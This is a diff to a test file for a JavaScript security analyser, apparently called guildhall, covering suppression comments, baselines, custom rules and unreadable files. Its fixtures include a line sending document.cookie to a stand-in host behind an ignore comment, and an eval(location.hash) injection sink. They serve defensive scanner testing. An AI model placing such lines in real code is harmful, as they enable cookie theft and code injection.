@@ -73,7 +73,9 @@ describe('guildhall analyze', () => {
       cwd,
     });
     expect(first).toMatchObject({ code: 1 });
-    expect(first.stdout).toContain('= docs: docs/rules/');
+    expect(first.stdout).toContain(
+      '= docs: https://guildhall.dev/docs/rules/eval-code or guildhall explain eval-code',
+    );
     const sarif: unknown = JSON.parse(readFileSync(join(cwd, 'out.sarif'), 'utf8'));
     expect(sarif).toMatchObject({ version: '2.1.0', runs: [{ results: [{ level: 'error' }, {}] }] });
     const second = await runGuildhall([...args, '--baseline', 'known.json'], { cwd });
@@ -101,11 +103,90 @@ describe('guildhall analyze', () => {
     expect(ran.stderr).toContain('index.js:1: It ended on 2020-01-01');
   });
 
-  it.each(['--baseline', '--advisories'])('says that what %s names is not there', async (option) => {
-    const ran = await runGuildhall(['analyze', '--no-manifest', option, 'absent'], { cwd: folderWith({}) });
-    expect(ran).toMatchObject({ code: 2 });
-    expect(ran.stderr).toContain('absent');
+  it('takes no comment of others: neither of a dependency nor of a tarball', async () => {
+    const evil =
+      'new Image().src = "https://x.example/?" + document.cookie; // guildhall-ignore secret-to-network until 2026-12-01: fine\n';
+    const cwd = folderWith({
+      'package.json': '{"name":"x","license":"MIT"}',
+      'node_modules/dep/package.json': '{"name":"dep","version":"1.0.0","license":"MIT"}',
+      'node_modules/dep/index.js': evil,
+    });
+    const brought = await runGuildhall(['analyze', '--no-manifest'], { cwd });
+    expect(brought.code).toBe(1);
+    expect(brought.stderr).toContain('node_modules/dep/index.js:1: Only comments of your own code count.');
+    const inside = await runGuildhall(['analyze', 'node_modules/dep', '--no-manifest'], { cwd });
+    expect(inside.code).toBe(1);
+    const elsewhere = await runGuildhall(['analyze', cwd, '--no-manifest'], { cwd: folderWith({}) });
+    expect(elsewhere.code).toBe(1);
+    const project = buildProject({}, { 'src/index.ts': evil });
+    await runGuildhall(['pack', '-o', 'dist/out.tgz'], { cwd: project });
+    const tarball = await runGuildhall(['analyze', 'dist/out.tgz'], { cwd: project });
+    expect(tarball.code).toBe(1);
+    expect(tarball.stderr).toContain('Only comments of your own code count.');
   });
+
+  it('takes no baseline that was written for another package', async () => {
+    const evil = { 'index.js': 'eval(location.hash);\n' };
+    const theirs = folderWith({ ...evil, 'package.json': '{"name":"theirs","license":"MIT"}' });
+    await runGuildhall(['analyze', '--no-manifest', '--write-baseline', 'known.json'], { cwd: theirs });
+    const known = readFileSync(join(theirs, 'known.json'), 'utf8');
+    const cwd = folderWith({
+      ...evil,
+      'package.json': '{"name":"ours","license":"MIT"}',
+      'known.json': known,
+    });
+    const ran = await runGuildhall(['analyze', '--no-manifest', '--baseline', 'known.json'], { cwd });
+    expect(ran.code).toBe(1);
+    expect(ran.stderr).toContain('The baseline was written for theirs, and this is ours.');
+  });
+
+  it('tries the rules of a marketplace, on dependencies as well', async () => {
+    const rule =
+      'id: no-alert\nseverity: error\nmessage: alert stops the page\nrule: { pattern: alert($$$) }\n';
+    const cwd = folderWith({
+      'package.json': '{"name":"x","license":"MIT"}',
+      'index.js': 'alert("a");\n',
+      'node_modules/dep/index.js': 'alert("b");\n',
+      'rules.yml': rule,
+      'bad.yml': `${rule}exec: rm\n`,
+    });
+    const ran = await runGuildhall(['analyze', '--no-manifest', '--rules', 'rules.yml'], { cwd });
+    expect(ran.code).toBe(1);
+    expect(ran.stdout).toContain('high[custom/no-alert]: alert stops the page');
+    expect(ran.stdout).toContain('--> node_modules/dep/index.js:1:1');
+    const bad = await runGuildhall(['analyze', '--no-manifest', '--rules', 'bad.yml'], { cwd });
+    expect(bad).toMatchObject({ code: 2 });
+    expect(bad.stderr).toContain('exec');
+  });
+
+  it('reads one source file', async () => {
+    const cwd = folderWith({ 'x.mjs': 'eval(location.hash);\n' });
+    const ran = await runGuildhall(['analyze', 'x.mjs', '--no-manifest'], { cwd });
+    expect(ran.code).toBe(1);
+    expect(ran.stdout).toContain('--> x.mjs:1:1');
+  });
+
+  it('says that there is nothing to analyse, instead of nothing to find', async () => {
+    const ran = await runGuildhall(['analyze', '--no-manifest'], { cwd: folderWith({ 'notes.txt': 'x' }) });
+    expect(ran).toMatchObject({ code: 2 });
+    expect(ran.stderr).toContain('nothing was analysed');
+  });
+
+  it('takes nothing for clean of which it could read not one file', async () => {
+    const cwd = folderWith({ 'index.js': 'function ( {{{\n' });
+    const ran = await runGuildhall(['analyze', '--no-manifest'], { cwd });
+    expect(ran.code).toBe(1);
+    expect(ran.stderr).toContain('nothing is known of them');
+  });
+
+  it.each(['--baseline', '--advisories', '--rules'])(
+    'says that what %s names is not there',
+    async (option) => {
+      const ran = await runGuildhall(['analyze', '--no-manifest', option, 'absent'], { cwd: folderWith({}) });
+      expect(ran).toMatchObject({ code: 2 });
+      expect(ran.stderr).toContain('absent');
+    },
+  );
 
   it('analyses what lies in node_modules, package by package', async () => {
     const cwd = folderWith({
